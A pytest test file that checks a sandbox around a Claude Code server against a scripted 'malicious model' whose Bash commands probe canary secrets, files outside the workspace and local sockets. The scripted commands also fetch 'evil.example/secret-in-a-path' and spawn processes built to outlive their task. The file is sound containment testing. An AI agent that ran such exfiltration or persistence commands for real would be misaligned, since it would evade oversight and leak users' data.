"""Sandbox: what Bash of a malicious model reaches, and what is left of its processes."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import signal
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal

import psutil
import pytest
from support.clients import sandbox_probe
from support.clients.client_kinds import KEY
from support.processes import eventually
from support.sandbox import needs_sandbox
from support.servers.claude_code_bench import Bench, Run, bench
from support.servers.messages_endpoint import ScriptedMessages, message, tool
from support.servers.server_process import server_process

from claude_code_client import ClaudeClient
from claude_code_server.domain.settings import Settings
from claude_code_server.engine.agents import PLUGIN
from claude_code_server.engine.claude_code import find_cli
from claude_code_server.engine.sandbox import Sandbox, open_sandbox

pytestmark = needs_sandbox

PYTHON = f"{sys.base_prefix}/bin/python3"
"""Outside of what a sandbox shows, unless it is told so."""
ALLOWED = {"write: workspace", "write: temporary files", "read: extra path"}


def sandbox_of(root: Path, **settings: Any) -> Sandbox:
    """Return a sandbox around the workspace that ``bench`` will make."""
    given = {"sandbox_paths": (Path(sys.base_prefix),), **settings}
    folder = root / "trial"
    folder.mkdir()
    sandbox = open_sandbox(Settings(workspace=root / "workspace", api_keys=("k",), sandbox=True, **given), folder)
    assert sandbox is not None
    folder.rmdir()
    return sandbox


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "workspace").mkdir()
    return tmp_path


def test_bash_reaches_nothing_but_workspace_and_model(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_SECRET", "server-canary")
    (root / "outside.txt").write_text("outside-canary")
    workspace = root / "workspace"
    probe = Path(sandbox_probe.__file__).read_text(encoding="utf-8")
    for path in (".git/hooks", ".claude/agents"):
        (workspace / path).mkdir(parents=True)
    (workspace / ".git/config").write_text("[core]\n")
    for name in ("link.txt", ".mcp.json"):
        (workspace / name).symlink_to(root / "outside.txt")
    (workspace / "probe.py").write_text(probe, encoding="utf-8")

    async def main(unix: socket.socket, abstract: socket.socket, tcp: socket.socket) -> None:
        ways = {
            "outside": str(root / "outside.txt"), "state": str(root / "state"), "home": str(Path.home()),
            "server": os.getpid(), "plugin": str(PLUGIN), "cli": str(find_cli()), "readable": sys.base_prefix,
            "tcp": tcp.getsockname()[1], "unix": unix.getsockname(), "abstract": abstract.getsockname()[1:].decode(),
        }  # fmt: skip
        command = f"env; {PYTHON} probe.py '{json.dumps(ways)}'"
        script = [
            message(tool("Bash", command=command), tool("Bash", command="ln -s /etc/hostname made-link; ls -a ..")),
            message("Done."),
        ]
        async with bench(root, script, sandbox=sandbox_of(root)) as made:
            (made.state / "state.sqlite3").write_text("database-canary")
            run = await made.run(made.spec(tools=("Bash",)))
            assert run.ended.status == "completed", run.ended
            probed, listed = (event["result"] for event in run.of("tool_result"))
            *environment, line = probed.splitlines()
            results = json.loads(line)
            assert {name for name, reached in results.items() if reached} == ALLOWED
            assert len(results) > 40
            assert not [variable for variable in environment if "canary" in variable]
            assert set(listed.split()) - {"written.txt"} == {".", "..", "state", "workspace"}
            assert [artifact.path for artifact in run.ended.artifacts] == ["made.txt"]
            assert not (root / "written.txt").exists()
            assert [path.name for path in made.state.iterdir()] == ["state.sqlite3"]

    with ExitStack() as stack:
        sockets = [stack.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(2)]
        # A short path, as sockets need it, in a folder that the sandbox does not show.
        sockets[0].bind(short := f"/tmp/{root.name[-20:]}-{os.getpid()}.sock")
        stack.callback(os.unlink, short)
        sockets[1].bind(f"\0claude-code-test-{os.getpid()}")
        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        for one in sockets:
            one.listen()
        asyncio.run(main(sockets[0], sockets[1], tcp))


class _Site(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(f"Hello from {self.path}.".encode())

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def site() -> Iterator[int]:
    """The port of a web server of the host."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Site) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield int(server.server_address[1])
        server.shutdown()
        thread.join()


FETCH = """
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        print(urllib.request.urlopen(url, timeout=5).read().decode())
    except Exception as error:
        print("refused", getattr(error, "code", type(error).__name__))
"""


def test_only_allowed_hosts_are_reached(root: Path, site: int, caplog: pytest.LogCaptureFixture) -> None:
    (root / "workspace" / "fetch.py").write_text(FETCH)
    urls = [
        f"http://localhost:{site}/a?b=c",
        "http://localhost:9/",
        f"http://127.0.0.1:{site}/",
        "http://evil.example/",
    ]
    # The second goes through CONNECT.
    urls.insert(1, "https://evil.example/secret-in-a-path")
    script = [message(tool("Bash", command=f"{PYTHON} fetch.py {' '.join(map(repr, urls))}")), message("Done.")]

    async def main() -> None:
        sandbox = sandbox_of(root, sandbox_hosts=(f"localhost:{site}", "*.example.org"))
        async with bench(root, script, sandbox=sandbox) as made:
            run = await made.run(made.spec(tools=("Bash",)))
            lines = run.of("tool_result")[0]["result"].splitlines()
            assert lines[1].startswith("refused")
            assert [lines[0], *lines[2:]] == [
                "Hello from /a?b=c.", "refused 403", "refused URLError", "refused 403",
            ]  # fmt: skip

    with caplog.at_level(logging.WARNING):
        asyncio.run(main())
    assert [record.getMessage() for record in caplog.records] == [
        "task task_1: refused a connection to 'evil.example', port 443",
        "task task_1: refused a connection to 'localhost', port 9",
        "task task_1: refused a connection to 'evil.example', port 80",
    ]


def strays(mark: str) -> str:
    """Return a command that leaves processes behind in every way."""
    return (
        f"sleep {mark}1 & setsid sleep {mark}2 & nohup sleep {mark}3 >/dev/null 2>&1 & "
        f"(setsid sh -c 'sleep {mark}4 &') & (trap '' TERM HUP INT; exec sleep {mark}5) & touch started"
    )


def sleeping(mark: str) -> list[psutil.Process]:
    """Return the processes of ``strays``."""
    found = []
    for process in psutil.process_iter(["cmdline"]):
        words = process.info["cmdline"] or []
        if len(words) == 2 and words[0] == "sleep" and words[1].startswith(mark):
            found.append(process)
    return found


@pytest.mark.parametrize(
    "how", ["end", "timeout", *(pytest.param(how, marks=pytest.mark.long) for how in ("cancelled", "aborted"))]
)
def test_no_process_outlives_its_task(root: Path, how: Literal["end", "cancelled", "timeout", "aborted"]) -> None:
    mark = f"9{os.getpid()}"
    command = strays(mark) if how == "end" else f"{strays(mark)}; wait"
    running: list[int] = []

    async def main() -> None:
        async with bench(
            root, [message(tool("Bash", command=command)), message("Done.")], sandbox=sandbox_of(root)
        ) as made:
            run = Run(made.spec(), on_event=lambda _: running.append(len(sleeping(mark))))
            await _run(made, run)
            assert sleeping(mark) == []
            assert list(made.state.iterdir()) == []

    async def _run(made: Bench, run: Run) -> None:
        working = asyncio.create_task(made.engine.run(run.spec, run, run.cancellation))
        if how == "end":
            assert (await working).status == "completed"
            assert running[-1] == 5
            return
        await asyncio.to_thread(eventually, lambda: len(sleeping(mark)) == 5)
        if how == "aborted":
            working.cancel()
            with pytest.raises(asyncio.CancelledError):
                await working
            return
        run.cancellation.cancel(how)
        async with asyncio.timeout(15):
            assert (await working).status == how

    asyncio.run(main())


def test_no_process_outlives_the_server(tmp_path: Path) -> None:
    mark = f"8{os.getpid()}"
    with ExitStack() as stack:
        endpoint = stack.enter_context(ScriptedMessages([message(tool("Bash", command=f"{strays(mark)}; wait"))]))
        server = stack.enter_context(
            server_process(tmp_path, api_keys=[KEY], upstream=endpoint.url, options=["--sandbox"])
        )
        client = stack.enter_context(ClaudeClient(api_key=KEY, base_url=server.base_url))
        handle = client.submit_task("Stay.", allow_tools=["Bash"])
        eventually(lambda: len(sleeping(mark)) == 5)
        os.kill(server.pid, signal.SIGKILL)
        _, alive = psutil.wait_procs(sleeping(mark), timeout=15)
        assert alive == []
        handle.detach()
        server.kill()
